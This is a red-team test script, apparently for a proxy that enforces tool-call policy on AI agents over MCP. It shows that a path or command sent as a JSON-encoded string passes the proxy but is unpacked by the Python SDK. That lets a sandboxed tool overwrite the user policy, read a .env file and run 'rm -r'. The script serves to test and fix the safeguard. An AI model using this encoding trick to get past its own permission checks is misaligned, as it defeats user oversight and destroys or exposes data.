"""F1: a string argument holding JSON, to a server written with the official Python SDK.

The proxy decides `path: "[\"<file>\"]"` as a path spelled `["<file>"]` (a file that does not
exist, allowed); the SDK's pre_parse_json gives the tool the list ["<file>"], and it writes
the user policy / reads .env / runs `rm -r`. Baselines: the same call with the plain value
(denied). Run: python3 redteam/s35/mcp/a01_json_in_string.py  (RT_PY: a python with `mcp`)."""

import json
import os
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent))
from rt import Client, audit, row, sandbox, text  # noqa: E402

HERE = Path(__file__).parent
PY = os.environ.get("RT_PY", "/work/main/.venv/bin/python")

sb = sandbox("a01")
log = sb["base"] / "server.log"
os.environ["RT_LOG"] = str(log)
policy, env, proj = str(sb["policy"]), str(sb["proj"] / ".env"), sb["proj"]
victim = proj / "victim"
victim.mkdir()
(victim / "keep.txt").write_text("precious\n")
c = Client(sb, ["env", f"RT_LOG={log}", PY, str(HERE / "sdk_srv.py")])
tools = c.request("tools/list", {})
print("tools:", [t["name"] for t in (tools or {}).get("result", {}).get("tools", [])])
new = "version: 1\nrules: []\n"
print("baselines (plain values):")
row("write_file path=<user policy>", c.call("write_file", {"path": policy, "content": new}))
row("read_file path=<proj>/.env", c.call("read_file", {"path": env}))
row("run_command command='rm -r victim'", c.call("run_command", {"command": f"rm -r {victim}"}))
row("write_files files=[{path: policy}] (a real list)",
    c.call("write_files", {"files": [{"path": policy, "content": new}]}))
print("the same, the value as a string holding JSON:")
row("read_file path='[\"<proj>/.env\"]'", c.call("read_file", {"path": json.dumps([env])}))
row("run_command command='[\"rm\",\"-r\",victim]'",
    c.call("run_command", {"command": json.dumps(["rm", "-r", str(victim)])}))
print("  victim dir still there:", victim.exists())
row("write_files files='[{\"path\": policy}]'",
    c.call("write_files", {"files": json.dumps([{"path": policy, "content": new}])}))
row("write_file path='[\"<user policy>\"]'",
    c.call("write_file", {"path": json.dumps([policy]), "content": new}))
print("  user policy now:", repr(sb["policy"].read_text()[:60]))
c.close()
print("server log:")
print("  " + (log.read_text().replace("\n", "\n  ") if log.exists() else "(none)"))
print("audit (tool, decision):")
for r in audit(sb):
    print("  ", r.get("tool"), r.get("decision") or r.get("action"), str(r.get("reason", ""))[:80])
